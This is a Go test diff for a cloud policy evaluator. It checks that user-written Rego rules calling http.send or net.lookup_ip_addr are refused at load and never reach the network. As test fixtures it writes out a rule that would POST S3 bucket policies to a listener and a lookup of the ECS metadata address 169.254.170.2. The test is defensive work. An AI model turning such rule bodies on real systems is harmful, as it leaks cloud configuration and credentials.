@@ -2,10 +2,13 @@ package main
 
 import (
 	"bytes"
+	"net/http"
+	"net/http/httptest"
 	"os"
 	"os/exec"
 	"path/filepath"
 	"strings"
+	"sync/atomic"
 	"syscall"
 	"testing"
 	"time"
@@ -227,5 +230,36 @@ func TestPlainHTTPEndpointOffLoopbackIsRefused(t *testing.T) {
 				t.Errorf("took %v: a request was attempted", d)
 			}
 		})
+	}
+}
+
+// Issue 10 item 4, end to end: a user rule that would POST bucket policies
+// to a listener (http.send) or look up the ECS metadata endpoint
+// (net.lookup_ip_addr) fails at load, with its file and line, before
+// anything is read, and the listener hears nothing.
+func TestUserRulesCannotReachTheNetwork(t *testing.T) {
+	var hits atomic.Int32
+	srv := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { hits.Add(1) }))
+	defer srv.Close()
+	for name, call := range map[string]string{
+		"http.send":          `r := http.send({"method": "POST", "url": "` + srv.URL + `", "body": b.policy})`,
+		"net.lookup_ip_addr": `r := net.lookup_ip_addr("169.254.170.2")`,
+	} {
+		t.Run(name, func(t *testing.T) {
+			dir := t.TempDir()
+			rule := "# METADATA\n# title: Leak\n# description: D\n# custom:\n#   id: user-leak\n#   severity: low\n#   resource_type: AwsS3Bucket\n#   remediation: R\npackage user.leak\n\n" +
+				"deny contains f if {\n\tsome b in input.buckets\n\t" + call + "\n\tf := {\"account_id\": b.accountId, \"resource_arn\": b.arn, \"message\": sprintf(\"%v\", [r])}\n}\n"
+			if err := os.WriteFile(filepath.Join(dir, "leak.rego"), []byte(rule), 0o600); err != nil {
+				t.Fatal(err)
+			}
+			var so, se bytes.Buffer
+			code := run(t.Context(), []string{"evaluate", "--inventory", "../../rules/testdata/healthcorp-inventory.json", "--rules", dir}, &so, &se)
+			if code != exitUsage || !strings.Contains(se.String(), "leak.rego:13") || !strings.Contains(se.String(), "undefined function "+name) {
+				t.Fatalf("exit %d, want %d naming leak.rego:13 and %s\n%s", code, exitUsage, name, se.String())
+			}
+		})
+	}
+	if n := hits.Load(); n != 0 {
+		t.Fatalf("the listener received %d requests from a rule", n)
 	}
 }
